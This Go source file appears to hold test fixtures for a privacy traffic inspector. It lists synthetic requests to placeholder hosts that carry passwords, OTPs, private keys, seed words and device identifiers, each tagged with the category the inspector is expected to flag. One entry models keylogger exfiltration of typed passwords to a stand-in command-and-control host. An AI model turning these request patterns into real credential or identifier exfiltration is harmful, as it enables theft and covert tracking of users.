package main

import (
	"constat/inspect"
	"constat/proxy/flow"
)

// freshSecrets are passwords and what stays of phone and user.
var freshSecrets = []fresh{
	{"password grant", "credentials> ?identifiers", postForm("auth.tienda.example/oauth/token", "grant_type", "password", "client_id", "android", "username", "$mail", "password", "$pw")},
	{"usuario, contrasena", "credentials> ?identifiers", postJSON("api.banco.example/ingreso", `{"usuario":"$given","contrasena":"$pw","recordar":true}`)},
	{"WS-Security", "credentials> ?identifiers", send("POST", "soap.seguro.example/svc", "text/xml", text(`<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"><s:Header><wsse:Security><wsse:UsernameToken><wsse:Username>$given</wsse:Username><wsse:Password>$pw</wsse:Password></wsse:UsernameToken></wsse:Security></s:Header><s:Body><Ping/></s:Body></s:Envelope>`))},
	{"Basic", "credentials> ?identifiers", func() maker {
		mk := ask("caldav.amt.example/principals/")
		return func(w *world) *inspect.Subject {
			s := mk(w)
			s.Request.Header.Set("Authorization", "Basic "+b64([]byte(w.fill("$given:$pw"))))
			return s
		}
	}()},
	{"renewal", "credentials>", postJSON("id.juegos.example/v2/token/renew", `{"clientId":"game-17","refreshToken":"rt.$h40$h40","scope":"all"}`)},
	{"private key", "credentials> ?opaque", postJSON("vault.sshclip.example/keys", `{"label":"server","pem":"-----BEGIN OPENSSH PRIVATE KEY-----\n$r48\n$r48\n$r48\n-----END OPENSSH PRIVATE KEY-----\n"}`)},
	{"kode OTP", "credentials> identifiers>", postForm("api.dompet.example/verifikasi", "no_hp", "+62813$d8", "kode_otp", "$d6")},
	{"mima, yanzhengma", "credentials> ?identifiers", postJSON("denglu.shangcheng.example/api", `{"yonghuming":"$given","mima":"$pw","yanzhengma":"$d6"}`)},
	{"Wi-Fi backup", "credentials> ?location", send("PUT", "bk.oemcloud.example/wifi.xml", "text/xml", text(`<WifiConfigStoreData><NetworkList>⟦|<Network><string name="SSID">"Casa-$d3"</string><string name="PreSharedKey">"$pw$pw"</string></Network>⟧</NetworkList></WifiConfigStoreData>`))},
	{"table of a password store", "credentials> ?browsing_history ?identifiers", inParts("import.keysafe.example/v1", "file", "passwords.csv", "text/csv", text("name,url,username,password\n⟦\n|$title,$page,$given,$pw⟧\n"))},
	{"SASL PLAIN", "credentials> ?identifiers", socket("xmpp.chat.example/ws", flow.Up, true, around(`<auth xmlns="urn:ietf:params:xml:ns:xmpp-sasl" mechanism="PLAIN">`, in64(text("\x00$given\x00$pw")), `</auth>`))},
	{"login by RPC, named", "credentials> ?identifiers", postJSON("rpc.nas.example/webapi", `{"jsonrpc":"2.0","id":4,"method":"auth.login","params":{"account":"$given","passwd":"$pw","session":"FileStation"}}`)},
	{"login by RPC, by place", "credentials> ?identifiers", postJSON("rpc.router.example/cgi-bin/luci/rpc/auth", `{"id":1,"method":"login","params":["$given","$pw"]}`)},
	{"PIN of a card", "credentials>", send("POST", "api.kartu.example/atur", "application/cbor", as(cbor, `{"aksi":"ubah_pin","pin_lama":"$d6","pin_baru":"$d6"}`))},
	{"keyboard, typed password", "credentials> ?app_list", postJSON("c2.keylog.example/k", `{"events":[{"pkg":"$pkg","inputType":"textPassword","typed":"$pw","t":$ms}]}`)},
	{"seed words", "credentials>", postJSON("sync.coinpocket.example/backup", `{"wallet":"main","mnemonic":"orbit lemon gravity satoshi velvet pond cradle unlock ribbon thunder maple $thing"}`)},
	{"parol", "credentials> ?identifiers", send("POST", "vhod.pochta.example/auth", "application/msgpack", as(msgpack, `{"login":"$given","parol":"$pw"}`))},
	{"Kennwort", "credentials> ?identifiers", postForm("konto.strom.example/anmelden", "benutzer", "$given", "kennwort", "$pw", "bleiben", "1")},

	{"advertising id in a pixel", "identifiers>", ask("t.attrib.example/i", "gaid", "$u", "ev", "open", "lat", "0")},
	{"IMEI in a form", "identifiers>", postForm("garantia.oem.example/consulta", "imei1", "$imei", "pais", "CO")},
	{"headers of an OEM", "identifiers>", with(ask("theme.oemcloud.example/v1/wallpapers"), "X-Imei: $imei", "X-Oaid: $h32")},
	{"MAC addresses", "identifiers>", postJSON("api.tvremote.example/pair", `{"wlanMac":"$mac","btMac":"$mac","role":"phone"}`)},
	{"own number of an operator", "identifiers>", with(ask("mi.operadora.example/saldo"), "X-MSISDN: 54911$d8", "X-IMSI: $imsi")},
	{"hashed mail address", "identifiers>", func(w *world) *inspect.Subject {
		return postForm("tr.socialads.example/tr", "id", "$d15", "ev", "Purchase", "ud[em]", sha256hex(w.fill("$mail")), "cd[value]", "12.50")(w)
	}},
	{"installation id", "identifiers>", postJSON("installations.pushcloud.example/v1/projects/p/installations", `{"fid":"c$h20_","appId":"1:$d12:android:$h16","authVersion":"FIS_v2","sdkVersion":"a:17.0.1"}`)},
	{"xuliehao, shebei", "identifiers>", send("POST", "tongji.shoujiruanjian.example/qidong", appForm, field("p", zip64(text(`{"shebei_id":"$h16","chuanhao":"$imei","wuli_dizhi":"$mac","qudao":"baidu"}`))))},
	{"vendor's ids, plist", "identifiers>", send("POST", "reg.gamekit.example/ios", "application/x-plist", as(plistXML, `{"identifierForVendor":"$u","advertisingIdentifier":"$u","trackingAuthorized":true}`))},
	{"SIM, XML", "identifiers>", send("POST", "ota.operadora.example/sim", "text/xml", text(`<SimReport><Iccid>$iccid</Iccid><Imsi>$imsi</Imsi><Estado>activa</Estado></SimReport>`))},
	{"serial number", "identifiers> ?credentials", postJSON("enroll.mdmsuite.example/v2/checkin", `{"serialNumber":"R5CT$d4$h3","enrollmentToken":"$h24","ownership":"corporate"}`)},
	{"account by mail address", "identifiers>", ask("api.kursus.example/profil", "surel", "$mail", "bahasa", "id")},
	{"DRM id", "identifiers>", postJSON("license.streamvid.example/wv", `{"widevineDeviceId":"$r32","securityLevel":"L1"}`)},
	{"push with ANDROID_ID", "identifiers>", postForm("push.noticias.example/registro", "android_id", "$h16", "token", "f$h20:APA91b$h40", "temas", "deportes,local")},
	{"gRPC, ids by value", "identifiers>", send("POST", "reg.rides.example/device.v1.Registry/Put", "application/grpc", as(grpcOf, `{"a_imei":"$imei","b_wifi":"$mac","c_sim":"$iccid"}`))},
	{"nomer telefona", "identifiers>", postJSON("api.taksi.example/profil", `{"nomer_telefona":"+7916$d7","imya":"$given"}`)},
	{"Hungarian notation, ids", "identifiers>", send("POST", "lic.softkey.example/act", "application/msgpack", as(msgpack, `{"strDeviceSerial":"R9$h8","strAndroidId":"$h16","nProduct":4}`))},
}
